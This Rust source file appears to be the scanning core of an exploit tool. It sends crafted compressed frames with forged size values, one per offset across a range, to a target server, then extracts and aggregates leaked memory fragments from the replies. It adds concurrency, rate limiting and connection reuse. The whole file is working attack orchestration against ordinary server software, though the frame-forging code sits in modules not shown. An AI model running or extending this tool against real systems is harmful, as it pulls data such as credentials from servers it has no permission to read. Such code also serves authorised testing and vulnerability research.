// File: scanner.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use futures::future::join_all;
use governor::{clock::DefaultClock, state::InMemoryState, state::NotKeyed, Quota, RateLimiter};
use indicatif::ProgressBar;
use log::{debug, info, warn};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use tokio::sync::Notify;

use crate::aggregator::{ScanResult, SharedAggregator};
use crate::config::{ScanConfig, ScanRange, TargetEndpoint};
use crate::error::{ConfigError, ProbeError};
use crate::extractor::LeakExtractor;
use crate::getstate::{GetState, ProbeStats};
use crate::transport::{RawResponse, SessionTimeouts, TransportSession};
use crate::wire::{self, FrameBuilder};

type ProbeLimiter = RateLimiter<NotKeyed, InMemoryState, DefaultClock>;

/// Cooperative stop signal shared between the scanner and whoever interrupts it.
#[derive(Debug, Clone, Default)]
pub struct CancelFlag {
    inner: Arc<CancelInner>,
}

#[derive(Debug, Default)]
struct CancelInner {
    cancelled: AtomicBool,
    notify: Notify,
}

impl CancelFlag {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn cancel(&self) {
        self.inner.cancelled.store(true, Ordering::SeqCst);
        self.inner.notify.notify_waiters();
    }

    pub fn is_cancelled(&self) -> bool {
        self.inner.cancelled.load(Ordering::SeqCst)
    }

    /// Resolves once [`CancelFlag::cancel`] has been called.
    pub async fn cancelled(&self) {
        loop {
            let notified = self.inner.notify.notified();
            if self.is_cancelled() {
                return;
            }
            notified.await;
        }
    }
}

#[derive(Debug, Clone)]
pub struct ScanOutcome {
    pub stats: ProbeStats,
    pub result: ScanResult,
}

/// Sweeps the forged-size delta over a range, one full round trip per delta.
pub struct OffsetScanner {
    endpoint: TargetEndpoint,
    range: ScanRange,
    config: ScanConfig,
    builder: FrameBuilder,
    extractor: LeakExtractor,
    timeouts: SessionTimeouts,
    state: Arc<GetState>,
    cancel: CancelFlag,
    rate_limiter: Option<ProbeLimiter>,
    progress: Option<ProgressBar>,
}

impl OffsetScanner {
    pub fn new(
        endpoint: TargetEndpoint,
        range: ScanRange,
        mut config: ScanConfig,
    ) -> Result<Self, ConfigError> {
        config.validate()?;
        let builder = FrameBuilder::new(config.compressor, &config.command)?;
        let extractor = LeakExtractor::new(config.extractor);
        let timeouts = SessionTimeouts::from(&config);
        let rate_limiter = config
            .rate_limit
            .map(|per_second| RateLimiter::direct(Quota::per_second(per_second)));

        Ok(Self {
            endpoint,
            range,
            config,
            builder,
            extractor,
            timeouts,
            state: Arc::new(GetState::new()),
            cancel: CancelFlag::new(),
            rate_limiter,
            progress: None,
        })
    }

    pub fn with_progress(mut self, progress: ProgressBar) -> Self {
        self.progress = Some(progress);
        self
    }

    pub fn with_cancel_flag(mut self, cancel: CancelFlag) -> Self {
        self.cancel = cancel;
        self
    }

    pub fn cancel_flag(&self) -> CancelFlag {
        self.cancel.clone()
    }

    pub fn planned_probes(&self) -> u64 {
        self.range.probe_count(self.config.step)
    }

    /// Runs the whole sweep. Per-probe failures are tallied, never returned,
    /// and the aggregator is finalized even after cancellation.
    pub async fn run(&self) -> ScanOutcome {
        let aggregator = SharedAggregator::new();
        self.state.set_planned_probes(self.planned_probes());
        self.state.set_start_time(now_ms());

        info!(
            "Scanning {} over deltas {} (step {}, {} worker(s), {} compressor)",
            self.endpoint, self.range, self.config.step, self.config.workers, self.config.compressor
        );

        let parts = self.range.split(self.config.workers, self.config.step);
        join_all(parts.into_iter().map(|part| self.sweep(part, &aggregator))).await;

        self.state.set_end_time(now_ms());
        let stats = self.state.snapshot();
        let result = aggregator.finalize();

        if stats.cancelled {
            warn!(
                "Scan cancelled after {} of {} probes",
                stats.probes_sent, stats.planned_probes
            );
        }
        info!(
            "{} probes, {} failed, {} unique fragment(s) in {} ms",
            stats.probes_sent,
            stats.failed_probes(),
            result.unique_fragments.len(),
            stats.elapsed_ms()
        );
        if let Some(progress) = &self.progress {
            progress.finish_with_message("Scan completed");
        }

        ScanOutcome { stats, result }
    }

    async fn sweep(&self, part: ScanRange, aggregator: &SharedAggregator) {
        debug!("Worker sweeping {}", part);
        let mut session: Option<TransportSession> = None;

        for delta in part.deltas(self.config.step) {
            if self.cancel.is_cancelled() {
                self.state.mark_cancelled();
                break;
            }
            if let Some(limiter) = &self.rate_limiter {
                limiter.until_ready().await;
            }

            let outcome = tokio::select! {
                biased;
                _ = self.cancel.cancelled() => {
                    self.state.mark_cancelled();
                    break;
                }
                outcome = self.probe(delta, &mut session) => outcome,
            };

            self.state.add_probe();
            match outcome {
                Ok(response) => {
                    self.state.add_success();
                    self.absorb(delta, &response.bytes, aggregator);
                }
                Err(e) => {
                    debug!("Probe at delta {} failed: {}", delta, e);
                    self.state.add_failure(&e);
                    match e.partial_bytes() {
                        Some(partial) => self.absorb(delta, partial, aggregator),
                        None => {
                            aggregator.record(Vec::new());
                        }
                    }
                }
            }

            if let Some(progress) = &self.progress {
                progress.inc(1);
            }
        }

        if let Some(session) = session.take() {
            session.close().await;
        }
    }

    /// One round trip. The session is kept for the next delta only when reuse
    /// is enabled and the reply arrived in full.
    async fn probe(
        &self,
        delta: u32,
        session: &mut Option<TransportSession>,
    ) -> Result<RawResponse, ProbeError> {
        let frame = self.builder.build(delta)?;

        let mut active = match session.take() {
            Some(active) => active,
            None => TransportSession::connect(&self.endpoint, self.timeouts).await?,
        };

        let response = match active.send(&frame).await {
            Ok(_) => active.receive_response().await,
            Err(e) => Err(e),
        };

        let reusable = matches!(&response, Ok(raw) if raw.complete);
        if reusable && self.config.reuse_connection {
            *session = Some(active);
        } else {
            active.close().await;
        }
        response
    }

    fn absorb(&self, delta: u32, response: &[u8], aggregator: &SharedAggregator) {
        let unwrapped = wire::unwrap_compressed(response);
        let data = unwrapped.as_deref().unwrap_or(response);
        let fragments = self.extractor.extract(data, delta);
        let found = fragments.len();
        let added = aggregator.record(fragments);
        if added > 0 {
            debug!(
                "delta {}: {} fragment(s), {} new",
                delta, found, added
            );
        }
    }
}

fn now_ms() -> u64 {
    chrono::Utc::now().timestamp_millis().max(0) as u64
}
